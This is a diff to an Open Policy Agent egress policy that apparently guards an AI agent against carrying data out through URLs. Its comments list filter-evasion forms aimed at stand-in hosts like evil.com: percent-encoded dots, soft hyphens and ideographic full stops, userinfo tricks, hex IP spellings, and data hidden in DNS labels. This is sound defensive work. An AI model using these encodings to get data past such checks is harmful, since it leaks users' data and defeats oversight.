@@ -966,7 +966,10 @@ host_site(h) := h if {
 	parts := split(trim_suffix(h, "."), ".")
 	n := count(parts)
 	n >= 2
-	idx := [j | some j in numbers.range(1, n - 1); public_suffix(concat(".", array.slice(parts, j, n)))]
+
+	# The list's longest rules have seven labels: a longer name's other suffixes need no look-up (each
+	# is a scan of its top-level domain's rules; a name of 40 labels in each of 500 values took seconds).
+	idx := [j | some j in numbers.range(max([1, n - 8]), n - 1); public_suffix(concat(".", array.slice(parts, j, n)))]
 	count(idx) > 0
 } else := concat(".", array.slice(parts, count(parts) - 2, count(parts))) if {
 	parts := split(trim_suffix(h, "."), ".")
@@ -1057,21 +1060,78 @@ agent_sends_to_host if agent_carries_url
 agent_carries_url if {
 	some k, vs in object.get(input.request, "query", {})
 	some v in array.concat([k], vs)
-	regex.match(url_carrying, v)
+	some f in parser_forms(v)
+	regex.match(url_carrying, f)
 }
 
-agent_carries_url if regex.match(path_url_carrying, object.get(input.request, "path", ""))
+agent_carries_url if {
+	some f in parser_forms(object.get(input.request, "path", ""))
+	regex.match(path_url_carrying, f)
+}
+
+# A text as a URL parser reads it (sixteenth pass). WHATWG's parser, which fetchers, readers and
+# shorteners use, drops ASCII tabs and newlines anywhere in a URL, percent-decodes a host, and maps
+# it by IDNA: the code points IDNA ignores (soft hyphen U+00AD, U+034F, U+180B-F, zero-width space
+# U+200B, word joiner U+2060, variation selectors, U+FEFF) vanish and the ideographic and fullwidth
+# full stops (U+3002, U+FF0E, U+FF61) are dots. `https://noembed.com%2Eevil.com/`, with a tab or a
+# soft hyphen before the dot, or `evil。com/c`, named `noembed.com` (the fetcher's own site) or no
+# host to the patterns, and the fetcher reached `noembed.com.evil.com`. The patterns read the text
+# as written, in this view, and in this view of its percent-decoding (a path is raw, a fetcher may
+# decode it first). Only hosts and URL shapes are read from these forms.
+parser_forms(t) := {t} if {
+	not regex.match(host_view_chars, t) # most texts: nothing a parser would read otherwise
+} else := {t} if {
+	too_many_views # bounded work: such a request is held whole (below)
+} else := {t, v, structure_decoded(v)} if {
+	contains(t, "%")
+	v := parser_view(t)
+} else := {t, parser_view(t)}
+
+# The escapes of a URL's structure undone (`%2F`, `%5C`, `%3F`, `%23`, `%40`, `%3A`, `%20`).
+structure_decoded(v) := concat("/", regex.split(`%2[fF]`, concat("\\", regex.split(`%5[cC]`, concat("?", regex.split(`%3[fF]`, concat("#", regex.split(`%23`, concat("@", regex.split(`%40`, concat(":", regex.split(`%3[aA]`, concat(" ", regex.split(`%20`, v))))))))))))))
+
+# Two regex passes, whatever the text: every replacement allocates, and an evaluation frees nothing.
+# (`regex.split` runs JavaScript's RegExp, `regex.match` RE2: the patterns are written for each.)
+parser_view(t) := concat(".", regex.split(host_dots, concat("", regex.split(host_ignored, t))))
+
+host_view_chars := `[\t\r\n%\x{00AD}\x{034F}\x{180B}-\x{180F}\x{200B}\x{2060}\x{FE00}-\x{FE0F}\x{FEFF}\x{3002}\x{FF0E}\x{FF61}]`
+
+host_ignored := `[\t\r\n\u00AD\u034F\u180B-\u180F\u200B\u2060\uFE00-\uFE0F\uFEFF]|%(?:09|0[aAdD]|[cC]2%[aA][dD]|[cC][dD]%8[fF]|[eE]2%80%8[bB]|[eE]2%81%[aA]0|[eE][fF]%[bB][bB]%[bB][fF])`
+
+host_dots := `[\u3002\uFF0E\uFF61]|%(?:2[eE]|[eE]3%80%82|[eE][fF]%[bB][cC]%8[eE]|[eE][fF]%[bB][dD]%[aA]1)`
 
 # A path segment that is a host name under a top-level domain the Public Suffix List knows (a reader's
 # `/evil.com/…`, an archive's `/web/2024/evil.com`), unless its last label is a common file
 # extension that is also a country's domain (`setup.py`, `README.md`, `main.tf`).
 agent_carries_url if some h in path_hosts
 
-path_hosts contains lower(seg) if {
+path_hosts contains h if {
 	some seg in object.get(input.request, "segments", [])
-	contains(seg, ".")
-	regex.match(`^(?:[\pL\pN-]+\.)+\pL[\pL\pN-]*\.?$`, seg)
-	parts := split(trim_suffix(lower(seg), "."), ".")
+	some h in target_hosts(seg)
+}
+
+# A text that is a host a fetcher prefixes `https://` to, in any form a URL parser reads as one
+# (sixteenth pass: only a bare name was read): a name under a top-level domain of the list, with
+# userinfo before it (`docs.python.org@evil.com`: the host is after the last `@`) or a port after it
+# (`evil.com:8080`), an IPv4 address in the parser's spellings (`203.0.113.7`, `0xcb.0.0x71.07`,
+# `0xcb007107`) or an IPv6 literal (`[2001:db8::1]`), in any of the parser's views of the text. A
+# whole number (`3405803783`, which the parser reads as an address too) is not: ids are.
+target_hosts(t) := {h |
+	regex.match(`[.:%\x{3002}\x{FF0E}\x{FF61}]|^\s*(?://|\\\\)?0[xX]`, t) # most segments and values are none
+	some f in parser_forms(t)
+	some m in array.concat(regex.find_all_string_submatch_n(target_host_re, f, 1), regex.find_all_string_submatch_n(target_address_re, f, 1))
+	h := trim_suffix(lower(m[1]), ".")
+	target_host_ok(h)
+}
+
+target_host_re := `(?is)^\s*(?://|\\\\)?(?:.*@)?((?:[^\s/\\?#@:<>\[\]^|%.]+\.)+\pL[\pL\pN-]*\.?|(?:0x[0-9a-f]*|[0-9]+)(?:\.(?:0x[0-9a-f]*|[0-9]+)){3}\.?)(?::[0-9]*)?(?:[/?#\\].*)?\s*$`
+
+target_address_re := `(?is)^\s*(?://|\\\\)?(?:.*@)?(0x[0-9a-f]{1,8}|\[[0-9a-f:.]+\])(?::[0-9]*)?(?:[/?#\\].*)?\s*$`
+
+target_host_ok(h) if regex.match(`^(?:(?:0x[0-9a-f]*|[0-9]+)(?:\.(?:0x[0-9a-f]*|[0-9]+)){3}|0x[0-9a-f]+|\[.*\])$`, h)
+
+target_host_ok(h) if {
+	parts := split(h, ".")
 	tld := parts[count(parts) - 1]
 	public_rule(tld)
 	not tld in file_extensions
@@ -1083,15 +1143,11 @@ path_hosts contains lower(seg) if {
 # (`<data>.evil.com`: DNS as the channel).
 agent_carries_url if some h in query_hosts
 
-query_hosts contains lower(trim_space(v)) if {
+query_hosts contains h if {
 	some k, vs in object.get(input.request, "query", {})
 	lower(k) in host_params
 	some v in vs
-	regex.match(`^\s*(?:[\pL\pN-]+\.)+\pL[\pL\pN-]*\.?\s*$`, v)
-	parts := split(trim_suffix(lower(trim_space(v)), "."), ".")
-	tld := parts[count(parts) - 1]
-	public_rule(tld)
-	not tld in file_extensions
+	some h in target_hosts(v)
 }
 
 host_params := {
@@ -1116,9 +1172,9 @@ file_extensions := {
 	"sh", "so", "st", "tf", "to", "zip",
 }
 
-url_carrying := `(?i)https?(?::|%3a)(?:[/\\\pL\pN\[]|%2f|%5c)|(?:^|[\s(<>"'=,;|*\[])(?://|\\\\|%2f%2f|%5c%5c)?(?:[\pL\pN-]+(?:\.[\pL\pN-]+)*\.\pL[\pL\pN-]*\.?|[0-9]{1,3}(?:\.[0-9]{1,3}){3})(?::[0-9]+)?(?:[/?#\\]|%2f|%3f|%23|%5c)`
+url_carrying := `(?i)https?(?::|%3a)(?:[/\\\pL\pN\[]|%2f|%5c)|(?:^|[\s(<>"'=,;|*\[@])(?://|\\\\|%2f%2f|%5c%5c)?(?:[^\s/\\?#@:<>\[\]^|%.]+(?:\.[^\s/\\?#@:<>\[\]^|%.]+)*\.\pL[\pL\pN-]*\.?|(?:0x[0-9a-f]*|[0-9]+)(?:\.(?:0x[0-9a-f]*|[0-9]+)){3}|0x[0-9a-f]{1,8}|\[[0-9a-f:.]+\])(?::[0-9]+)?(?:[/?#\\]|%2f|%3f|%23|%5c)`
 
-path_url_carrying := `(?i)https?(?::|%3a)(?:[/\\a-z0-9\[]|%2f|%5c)|/(?:/|%2f)[a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]`
+path_url_carrying := `(?i)https?(?::|%3a)(?:[/\\a-z0-9\[%]|%2f|%5c)|/(?:/|%2f)[a-z0-9-]+(?:\.[a-z0-9-]+)*\.[a-z]`
 
 # A label name is at most 64 characters: a longer host keeps its end (a shorter suffix matches more
 # hosts, which fails closed). Brackets of an IPv6 literal are no label characters.
@@ -1211,14 +1267,36 @@ verdicts contains deny(
 # browsing source served that exact URL; of a host `browse.sources` names, only a URL in a parameter
 # naming one to fetch (a search API searches for the rest). In the trifecta such a read of a trusted
 # sink carries data out.
+# Each parser view costs a few look-ups per host it names; a read whose query and path hold more
+# than 32 texts a parser would read otherwise (escapes, tabs, code points IDNA maps) is held as a
+# fetch of an unreadable URL without reading them (an agent's 500 values of `a.b%2ec…` took
+# seconds of evaluation).
+too_many_views if count([t | some t in url_texts; regex.match(host_view_chars, t)]) > 32
+
+fetches_elsewhere if too_many_views
+
 fetches_elsewhere if {
 	some t in url_texts
 	text_fetches_elsewhere(t)
 }
 
 fetches_elsewhere if {
-	some h in (path_hosts | query_hosts)
-	host_site(h) != host_site(host)
+	some h in ((path_hosts | query_hosts) | query_subdomains)
+	not harmless_target(h) # another site (loopback names only the fetcher itself)
+}
+
+# A host name below another site's registrable domain as a whole query value of any name
+# (`?q=4111.evil.com`, sixteenth pass): a link previewer or oEmbed endpoint reads its `q=` as a URL
+# to fetch (linkpreview.net does), and a name so made reaches its site's DNS servers and web server
+# with the data in its labels. A name that is a registrable domain itself (`?q=asyncio.run`,
+# `python.org`: what searches hold) is not read so; one in a parameter named for a host is, above.
+query_subdomains contains h if {
+	some _, vs in object.get(input.request, "query", {})
+	some v in vs
+	regex.match(`^\s*[^\s/\\?#]*(?:(?:[.\x{3002}\x{FF0E}\x{FF61}]|(?i:%2e))[^\s/\\?#]*){2,}$`, v) # three labels or more: cheap before the rest
+	some h in target_hosts(v)
+	host_site(h) != h
+	not regex.match(`^(?:(?:0x[0-9a-f]*|[0-9]+)(?:\.(?:0x[0-9a-f]*|[0-9]+)){3}|0x[0-9a-f]+|\[.*\])$`, h) # an address: its own site
 }
 
 url_texts contains t if {
@@ -1289,7 +1367,8 @@ url_named_header(k) if {
 # The hosts a request carries, for the reason.
 carried_url_hosts contains h if {
 	some t in url_texts
-	some h in text_hosts(t)
+	some f in parser_forms(t)
+	some h in text_hosts(f)
 }
 
 carried_url_hosts contains trim_suffix(h, ".") if some h in (path_hosts | query_hosts)
@@ -1298,22 +1377,36 @@ carried_url_hosts contains trim_suffix(h, ".") if some h in (path_hosts | query_
 # query or fragment follows, and one after `//` in a path.
 scheme_host := `(?i)https?(?::|%3a)(?:[/\\]|%2f|%5c)*(?:[^/\\?#@\s]*@)?((?:[\pL\pN-]+\.)*[\pL\pN-]+|\[[0-9a-f:.]+\])`
 
-bare_host := `(?i)(?:^|[\s(<>"'=,;|*\[])(?://|\\\\|%2f%2f|%5c%5c)?((?:[\pL\pN-]+\.)+\pL[\pL\pN-]*|[0-9]{1,3}(?:\.[0-9]{1,3}){3})\.?(?::[0-9]+)?(?:[/?#\\]|%2f|%3f|%23|%5c)`
+# The authority after a scheme as a URL parser takes it: everything up to `/`, `\`, `?`, `#` (or a
+# character no host holds), userinfo up to the last `@` (which may hold blanks and `@`), a port after
+# `:`. Read beside scheme_host (sixteenth pass: `https://x@noembed.com@evil.com/`, and
+# `https://noembed.com @evil.com/`, which a parser reads as evil.com, were read as the fetcher's own
+# site): whatever a host holds that the name patterns do not (`_`, `%`, a code point IDNA maps) stays
+# in it, so it is another site than the request's (fails closed).
+scheme_authority := `(?i)https?(?::|%3a)(?:[/\\]|%2f|%5c)*([^#/<>?\\^|]*)`
+
+authority_host(a) := trim_suffix(lower(m[1]), ".") if {
+	some m in regex.find_all_string_submatch_n(`(?s)^(?:.*@)?(\[[^\]]*\]|[^:\s]*)`, a, 1)
+} else := ""
+
+bare_host := `(?i)(?:^|[\s(<>"'=,;|*\[@])(?://|\\\\|%2f%2f|%5c%5c)?((?:[^\s/\\?#@:<>\[\]^|%.]+\.)+\pL[\pL\pN-]*|(?:0x[0-9a-f]*|[0-9]+)(?:\.(?:0x[0-9a-f]*|[0-9]+)){3}|0x[0-9a-f]{1,8}|\[[0-9a-f:.]+\])\.?(?::[0-9]+)?(?:[/?#\\]|%2f|%3f|%23|%5c)`
 
 slashed_host := `(?i)/(?:/|%2f)((?:[\pL\pN-]+\.)+\pL[\pL\pN-]*)`
 
-text_hosts(t) := {trim_suffix(lower(m[1]), ".") | some re in [scheme_host, bare_host, slashed_host]; some m in regex.find_all_string_submatch_n(re, t, 16)}
+text_hosts(t) := {trim_suffix(lower(m[1]), ".") | some re in [scheme_host, bare_host, slashed_host]; some m in regex.find_all_string_submatch_n(re, t, 16)} | {authority_host(m[1]) | some m in regex.find_all_string_submatch_n(scheme_authority, t, 16)}
 
 # One text that carries a URL of another site than the request's host, or one whose host cannot be
 # read (a scheme with no host after it that the patterns read: fails closed).
 text_fetches_elsewhere(t) if {
-	url_like(t)
-	not all_same_site(text_hosts(t))
+	some f in parser_forms(t)
+	url_like(f)
+	not all_same_site(text_hosts(f))
 }
 
 text_fetches_elsewhere(t) if {
-	url_like(t)
-	count(regex.find_all_string_submatch_n(`(?i)https?(?::|%3a)`, t, 64)) > count(regex.find_all_string_submatch_n(scheme_host, t, 64))
+	some f in parser_forms(t)
+	url_like(f)
+	count(regex.find_all_string_submatch_n(`(?i)https?(?::|%3a)`, f, 64)) > count(regex.find_all_string_submatch_n(scheme_host, f, 64))
 }
 
 url_like(t) if regex.match(url_carrying, t)
@@ -1342,6 +1435,21 @@ mcp_fetching_tools contains object.get(c, "tool", "(no tool name)") if {
 	some v in mcp_argument_texts(c)
 	some t in text_forms(v)
 	text_fetches_elsewhere(t)
+}
+
+# A host alone in an argument named for a URL (`fetch {url: "4111.evil.com"}`, an address, a host
+# with a port): fetchers that put `https://` in front reach it, data in its labels included
+# (sixteenth pass: only a text shaped as a URL, with a scheme or a path, was read).
+mcp_fetching_tools contains object.get(c, "tool", "(no tool name)") if {
+	some c in mcp_calls
+	c.method == "tools/call"
+	mcp_call_is_read(c)
+	walk(object.get(c, "arguments", {}), [p, v])
+	is_string(v)
+	count(p) > 0
+	body_fetch_key(p[count(p) - 1])
+	some h in target_hosts(v)
+	host_site(h) != host_site(host)
 }
 
 # A resource read by an `https://` URI of another site (a fetch server's resource template) too.
@@ -1421,6 +1529,17 @@ fetch_through if {
 	some b in body_fetch_texts
 	some t in text_forms(b)
 	text_fetches_elsewhere(t)
+}
+
+# A host alone in such a field (`{"url": "4111.evil.com"}`): scraping APIs put `https://` in front
+# (sixteenth pass).
+fetch_through if {
+	plain_host_request
+	extra_host_allowed
+	not reads_only
+	some b in body_fetch_texts
+	some h in target_hosts(b)
+	host_site(h) != host_site(host)
 }
 
 # Names compared without case, `_` or `-` (`startUrls`, `start_urls`, `webhook-url`). A field a
